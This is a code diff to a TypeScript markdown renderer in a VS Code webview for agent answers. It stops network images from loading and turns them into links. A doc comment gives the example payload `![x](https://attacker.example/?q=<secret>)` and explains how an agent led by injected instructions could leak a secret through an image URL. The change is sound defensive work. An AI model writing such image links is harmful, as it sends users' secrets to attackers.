@@ -9,12 +9,14 @@
  * stricter one (see `decodeReferences`).
  *
  * URLs are the one place where agent input decides more than text: a link's `href` and an image's `src` are kept only
- * when DOMPurify's attribute policy (`DOMPurify.isValidAttribute`, configured by `markdown.ts`) accepts them, and an
- * image only from `https:` or a `data:image/` URL (what the webview's CSP allows).
+ * when DOMPurify's attribute policy (`DOMPurify.isValidAttribute`, configured by `markdown.ts`) accepts them. An
+ * image shows only from a `data:image/` URL; one from the network becomes a link to it and is never fetched
+ * (`image`).
  */
 import DOMPurify from "dompurify";
 import { decodeHTMLStrict } from "entities";
 import type { Token, Tokens } from "marked";
+import * as l10n from "@vscode/l10n";
 import { showBidiControls } from "./ansi";
 
 /**
@@ -210,20 +212,51 @@ function link(parent: Node, token: Tokens.Link): void {
   content(a);
 }
 
-/** An image: `<img>` with its `alt` text, and its `src` only from `https:` or a `data:image/` URL. */
+/**
+ * An image. One in the text (`data:image/`) shows as `<img>`. One from the network (`http(s):`) is never fetched by
+ * the view: an agent that was led to write `![x](https://attacker.example/?q=<secret>)` would otherwise send the
+ * secret out as soon as the answer shows. It becomes a link to the image instead (an image icon and its alt text);
+ * a click asks the host, which opens it in the browser after VS Code's own confirmation, as for any link. Any other
+ * source shows the `alt` text only.
+ */
 function image(parent: Node, token: Tokens.Image): void {
   const alt = decodeReferences(token.tokens ? plainText(token.tokens) : token.text);
   const src = encodedUrl(token.href);
   if (src === null) return append(parent, alt);
-  const img = element(parent, "img");
   const value = decodeReferences(src).trim();
-  if (IMAGE_SOURCE.test(value) && DOMPurify.isValidAttribute("img", "src", value)) attribute(img, "src", value);
+  if (REMOTE_IMAGE.test(value) && DOMPurify.isValidAttribute("a", "href", value)) return remoteImage(parent, value, alt);
+  const img = element(parent, "img");
+  if (INLINE_IMAGE.test(value) && DOMPurify.isValidAttribute("img", "src", value)) attribute(img, "src", value);
   attribute(img, "alt", alt);
   if (token.title) attribute(img, "title", decodeReferences(token.title));
 }
 
-/** An image may load only from these (the webview's CSP allows no other source). */
-const IMAGE_SOURCE = /^(https:|data:image\/)/i;
+/** A network image, not loaded: a link to it, with an image icon and the image's alt text (else its file name). */
+function remoteImage(parent: Node, url: string, alt: string): void {
+  const a = element(parent, "a");
+  a.className = "md-remote-image";
+  attribute(a, "href", url);
+  attribute(a, "title", l10n.t("Image not loaded: {0}", url));
+  a.setAttribute("rel", "noopener noreferrer");
+  const icon = element(a, "span");
+  icon.className = "codicon codicon-file-media";
+  icon.setAttribute("aria-hidden", "true");
+  append(a, alt || decodeURIComponentSafe(url.replace(/[?#].*$/, "").split("/").pop() ?? "") || url);
+}
+
+function decodeURIComponentSafe(text: string): string {
+  try {
+    return decodeURIComponent(text);
+  } catch {
+    return text;
+  }
+}
+
+/** An image the view shows: its data is in the text (the CSP allows no other source for answers' images). */
+const INLINE_IMAGE = /^data:image\//i;
+
+/** An image on the network: shown as a link to it, never fetched by the view. */
+const REMOTE_IMAGE = /^https?:/i;
 
 /** A code block's language class: `language-` and a plain name, which is all the highlighter reads. */
 const CODE_LANGUAGE = /^[\w#+.-]+$/;
